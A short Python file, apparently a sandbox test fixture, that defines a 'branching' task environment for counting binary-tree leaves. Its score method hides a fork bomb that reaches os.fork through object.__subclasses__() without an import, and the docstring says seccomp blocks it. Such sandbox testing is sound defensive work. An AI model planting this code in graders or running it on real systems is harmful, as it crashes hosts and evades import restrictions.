"""Attack: a fork bomb, reaching os.fork through object.__subclasses__() (no import).

Stopped by seccomp: clone without CLONE_THREAD fails with EPERM (PermissionError).
"""

import random

from shared.environment import Environment


class Branching(Environment):
    name = "branching"
    description = "Count the leaves of a full binary tree."
    oracle = "equality"

    def sample(self, rng: random.Random, difficulty: int) -> dict:
        return {"depth": rng.randint(1, difficulty + 1)}

    def solve(self, instance: dict) -> int:
        return 2 ** instance["depth"]

    def render(self, instance: dict) -> str:
        return f"How many leaves has a full binary tree of depth {instance['depth']}?"

    def score(self, instance: dict, reference: int, answer: str) -> float:
        wrap = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"]
        fork = wrap[0].__init__.__globals__["fork"]
        while True:
            fork()
